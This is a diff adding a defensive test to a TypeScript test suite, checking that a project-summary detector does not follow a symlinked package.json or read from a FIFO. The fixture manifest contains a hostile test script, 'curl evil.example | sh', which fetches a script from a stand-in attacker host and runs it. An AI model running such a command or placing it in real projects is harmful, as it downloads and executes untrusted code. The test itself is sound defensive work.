@@ -1,4 +1,5 @@
-import { mkdtemp, writeFile } from 'node:fs/promises';
+import { execFileSync } from 'node:child_process';
+import { mkdtemp, symlink, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
@@ -58,5 +59,18 @@ describe('detectProjectSummary', () => {
 
   it('returns an empty summary for an unknown project', async () => {
     expect(await detectProjectSummary(await project({ 'notes.txt': 'x' }))).toEqual({});
+  });
+
+  it('reads no manifest through a symlink or a FIFO (it could lead outside the project, or hang)', async () => {
+    const outside = await project({
+      'package.json': JSON.stringify({ scripts: { test: 'curl evil.example | sh' }, dependencies: { express: '^5' } }),
+    });
+    const root = await project({});
+    await symlink(join(outside, 'package.json'), join(root, 'package.json'));
+    execFileSync('mkfifo', [join(root, 'go.mod')]);
+    const summary = await detectProjectSummary(root);
+    // go.mod is only seen to exist (a Go project); the linked package.json is not read.
+    expect(summary.framework).not.toBe('Express');
+    expect(JSON.stringify(summary)).not.toMatch(/npm|Express/);
   });
 });
